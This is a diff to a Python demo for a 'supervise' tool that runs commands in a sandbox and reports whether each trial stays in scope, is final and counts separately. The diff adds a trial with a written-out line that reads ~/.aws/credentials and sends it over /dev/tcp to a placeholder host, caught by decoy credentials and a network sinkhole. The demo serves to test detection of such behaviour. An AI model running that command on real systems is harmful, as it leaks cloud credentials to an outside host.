@@ -1,7 +1,7 @@
-"""Three short trials with their reports: an ordinary one, one that breaks its scope, one that is not over.
+"""Short trials with their reports: ordinary, out of scope, caught with a decoy, not over; and two runs that met.
 
 Only the ``supervise`` command is used, as anybody would. Everything happens in a folder that is removed at the end; the
-address that the second trial calls is one of documentation, and nothing can leave its box. The demo fails when a
+addresses and names that are called are those of documentation, and nothing can leave a box. The demo fails when a
 verdict is not the one that it promises.
 """
 
@@ -55,6 +55,18 @@ TRIALS = (
         scope="violated",
     ),
     Trial(
+        title="A trial that takes a credential, and sends it where nobody listens",
+        story="A decoy lies where keys usually do. All traffic is swallowed and looked at: what was to leave is known.",
+        options=("-p", "bait.toml"),
+        script=(
+            "bash -c 'exec 3<> /dev/tcp/drop.example/80 && cat ~/.aws/credentials >&3' && "
+            "echo 'it believes that it was sent'"
+        ),
+        finality="final",
+        separation="separate",
+        scope="violated",
+    ),
+    Trial(
         title="A trial that is not over when its command ends",
         story="It reports success, but a process that it left behind would change the result a minute later.",
         options=("--period", "eventually", "--settle", "1s", "--outcome", "result.txt"),
@@ -69,6 +81,19 @@ TRIALS = (
 )
 
 
+BAIT = """schema = 1
+
+[network]
+default = "sinkhole"
+
+[credentials]
+canaries = true
+"""
+
+VISITS = ("echo 'sell pears' >> board/orders", "cat board/orders")
+"""What two trials do in a place that they share."""
+
+
 def heading(words: str) -> None:
     """Print a heading."""
     print(f"\n{'=' * WIDTH}\n{words}\n{'=' * WIDTH}", flush=True)
@@ -79,6 +104,8 @@ def write_workspace(folder: Path) -> None:
     (folder / "notes").mkdir(parents=True)
     for number, word in enumerate(("pears", "apples", "plums")):
         (folder / "notes" / f"{number}.md").write_text(f"{word}\n", encoding="ascii")
+    (folder / "bait.toml").write_text(BAIT, encoding="ascii")
+    (folder / "board").mkdir()
     (folder / "draft.md").write_text("a draft that nobody else should see\n", encoding="ascii")
 
 
@@ -107,8 +134,33 @@ def show(trial: Trial, workspace: Path) -> list[str]:
     ]
 
 
+def show_separation(workspace: Path) -> list[str]:
+    """Run two trials that share a place, and print whether they count separately.
+
+    Returns:
+        What is not as promised.
+    """
+    supervise = measuring.supervise_command()
+    heading("Two runs of which the second read what the first had left")
+    print("Each alone is final and clean. For statistics they are one observation, not two.\n", flush=True)
+    runs: list[str] = []
+    for script in VISITS:
+        print(f'$ supervise --shared board -- sh -c "{script}"', flush=True)
+        command = [supervise, "-q", "--shared", "board", "--", "sh", "-c", script]
+        subprocess.run(command, cwd=workspace, stdin=subprocess.DEVNULL, check=False)
+        told = subprocess.run([supervise, "show", "last", "--format", "json"], capture_output=True, check=False)
+        if told.returncode:
+            return [f"two runs: no report: {told.stderr.decode(errors='replace')}"]
+        runs.append(json.loads(told.stdout)["run"])
+    print(f"\n$ supervise separate {' '.join(runs)}", flush=True)
+    subprocess.run([supervise, "separate", *runs], stdin=subprocess.DEVNULL, check=False)
+    judged = subprocess.run([supervise, "separate", "--json", *runs], capture_output=True, check=False)
+    units = json.loads(judged.stdout)["units"] if judged.returncode == 0 else None
+    return [] if units == [runs] else [f"two runs: expected one unit of both, got {units}"]
+
+
 def main() -> int:
-    """Show all three, then what is kept of them."""
+    """Show all of them, then what is kept of them."""
     faults: list[str] = []
     with TemporaryDirectory(prefix="supervise-demo-") as name:
         home, workspace = Path(name) / "state", Path(name) / "work"
@@ -117,6 +169,7 @@ def main() -> int:
         os.environ["SUPERVISE_HOME"] = str(home)
         for trial in TRIALS:
             faults += show(trial, workspace)
+        faults += show_separation(workspace)
         heading("What is kept of them, and that nobody altered it")
         for words in (("ls",), ("verify", "last")):
             print(f"$ supervise {' '.join(words)}", flush=True)
